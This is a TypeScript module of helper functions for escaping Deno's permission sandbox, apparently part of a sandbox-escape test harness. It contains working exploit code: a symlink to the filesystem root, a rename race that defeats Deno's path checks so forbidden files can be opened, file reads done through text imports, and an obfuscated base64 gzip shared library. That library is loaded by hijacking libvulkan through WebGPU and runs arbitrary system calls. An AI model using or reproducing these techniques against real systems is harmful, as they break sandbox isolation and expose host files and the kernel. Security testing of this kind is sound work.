// What the attacks in Deno have in common. Deno's own permissions are not the wall that is tried, so they are gone round
// where that can be done: they look at a path before it is opened, and a folder becomes a link in between.

// all is the whole tree by a link: who lists, asks or makes does not look where it leads.
export const all = '/tmp/out';
Deno.symlinkSync('/', all);

// slip opens files that Deno would not, once in a program, which then ends with Deno.exit. Those that are not there, or
// that the kernel refuses, are left out.
export async function slip(paths: string[], options: Deno.OpenOptions = { read: true }): Promise<Map<string, Deno.FsFile>> {
  const left = new Set(paths.filter((p) => { try { return Deno.statSync(all + p); } catch { return false; } })), got = new Map<string, Deno.FsFile>();
  if (!left.size) return got;
  for (const p of left) {
    Deno.mkdirSync('/tmp/way' + p.slice(0, p.lastIndexOf('/')), { recursive: true });
    Deno.writeTextFileSync('/tmp/way' + p, 'mine');
  }
  Deno.writeTextFileSync('/tmp/swap.js', `for (postMessage(0);;) for (const [a, b] of [['way', 'aside'], ['out', 'way'], ['way', 'out'], ['aside', 'way']]) Deno.renameSync('/tmp/' + a, '/tmp/' + b);`);
  const worker = new Worker('file:///tmp/swap.js', { type: 'module' });
  await new Promise((ready) => worker.onmessage = ready);
  for (const end = performance.now() + 15000; left.size;) {
    if (performance.now() > end) throw new Error('there was no way to ' + [...left]);
    for (const p of left) {
      try {
        const file = Deno.openSync('/tmp/way' + p, options);
        if (file.statSync().size === 4) { file.close(); continue; }
        got.set(p, file);
        left.delete(p);
      } catch (e) {
        if (e instanceof Deno.errors.PermissionDenied) left.delete(p);
      }
    }
  }
  return got;
}

// text is what a file holds: who imports looks at no path at all.
export const text = (path: string): Promise<string> => import(path, { with: { type: 'text' } }).then((m) => m.default, () => '');

export async function refused(what: string, f: () => unknown, word = 'ESCAPED') {
  try { console.log(word + ':', what, String(await f()).slice(0, 200)); } catch { /* it was */ }
}

// calls makes system calls that Deno has no function for: navigator.gpu loads libvulkan.so.1, which with LD_LIBRARY_PATH=/box
// is this library. It makes the calls that are in a file, and leaves there what they returned, once in a program. (x86-64 alone)
//
//   __attribute__((constructor)) static void run(void) // gcc -Os -shared -nostdlib -s; sys is the instruction
//   {
//     long fd = sys(SYS_open, "/tmp/calls", O_RDWR), *p = sys(SYS_mmap, 0x10000000, 65536, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED, fd, 0);
//     for (long *q = p + 1, n = *p; n-- > 0; q += 7) q[0] = sys(q[0], q[1], q[2], q[3], q[4], q[5], q[6]);
//     sys(SYS_munmap, p, 65536), sys(SYS_close, fd);
//   }
export async function calls(...list: (number | string)[][]): Promise<number[]> {
  if (Deno.build.arch !== 'x86_64') return list.map(() => -1);
  list = [...list, [39]]; // getpid
  const { gunzipSync } = await import('node:zlib');
  const library = 'H4sIAAAAAAACA6t39XFjYmRkgAFmBjsGBI+BwQFKX2BGFrNgYAGSPAzcYLWsDLiBBRMqzSAAoUD62JDlhVBpDkZUGqaPCarPAarPQQiVhjseph/KDXxaksLGQDwQQDKGEclYUgHcP1B+BdQgx1BXw0uuhgdcDU86hnj02s4FihleCt0L8lawR+cLj853/Kz7QQ7x6Dzq2XlgH8gJjns4QVp3CQLJXaAI8el8wM/q063h2XnEozeCw7f1bZ2mR3ewhEd3sYBHdzWHT3ewgk+3s4ZPt7eBRzczP6tHJ7Pn/7MezYctXl+CO8Dw0g5uoGFgK3w6n/Oz7gCZ7dH53qPzGj9rdKxjjGPsYf2S3AL95MScnGIUf0ii+VOaAdW/X//9zwfRClD1sLQSAeXD4sQByudCi0ZuKC0BpdmhdAJa/MLkOdH4P/9D7Cc3/ggBd2dnKwUNl9SkzMQ8BUMjPSM9A11DE+2U1CRDo1JDTagQA4NecUZxSVFJYhKDXnpeqV5GYnEGg15KZV5xZS6ELili0CtKzUkEcRj0SlIrSoD8/JTEkkQGvdSM+LSixNxUBr3MvMyS+MSiosRKsK7E3MxkBr3k/Nzc1LwSqvgHFN7fgGEGy66weIPRMgyIfIgc/jAgCjWDCS1eYbQEvJyBxAl6/MlC5ZjQ0gmMRo9HdL4qELMg6YelkwQ0+9HdDxPXRyqbkNM5jN5IwH5TqJgRlK/JhEpz49APo22hbCZc5ScaQA9/dyDmg4YhSrnKhF09BxodDPU7TD+8fGVCdSgzmj5YeRkDVWKAZo8DVIM6Af8zIpmNDNKhgqkEwh8ALIb2d9AGAAA=';
  Deno.writeFileSync('/box/libvulkan.so.1', gunzipSync(Uint8Array.from(atob(library), (c) => c.charCodeAt(0))));
  const page = new Uint8Array(1 << 16), view = new DataView(page.buffer), returned = (i: number) => 8 + i * 56;
  let end = returned(list.length) + 8;
  view.setBigInt64(0, BigInt(list.length), true);
  list.forEach((call, i) => call.forEach((arg, j) => {
    view.setBigInt64(returned(i) + j * 8, BigInt(typeof arg === 'number' ? arg : 0x10000000 + end), true);
    if (typeof arg === 'string') { for (const c of arg) page[end++] = c.charCodeAt(0); end += 16 - end % 8; }
  }));
  Deno.writeFileSync('/tmp/calls', page);
  Deno.env.set('DENO_WEBGPU_BACKEND', 'vulkan'); // the others need much memory
  await navigator.gpu.requestAdapter();
  const after = new DataView(Deno.readFileSync('/tmp/calls').buffer);
  const got = list.map((_, i) => Number(after.getBigInt64(returned(i), true)));
  if (got.pop() !== Deno.pid) throw new Error('the library was not loaded');
  return got;
}

// forbidden makes calls by name, which must be refused before they do anything.
export async function forbidden(list: Record<string, (number | string)[]>, ...also: number[]) {
  const returned = await calls(...Object.values(list));
  Object.keys(list).forEach((name, i) => { if (![-1, -38, -13, -97, ...also].includes(returned[i])) console.log('REACHED:', name, 'returned', returned[i]); });
}
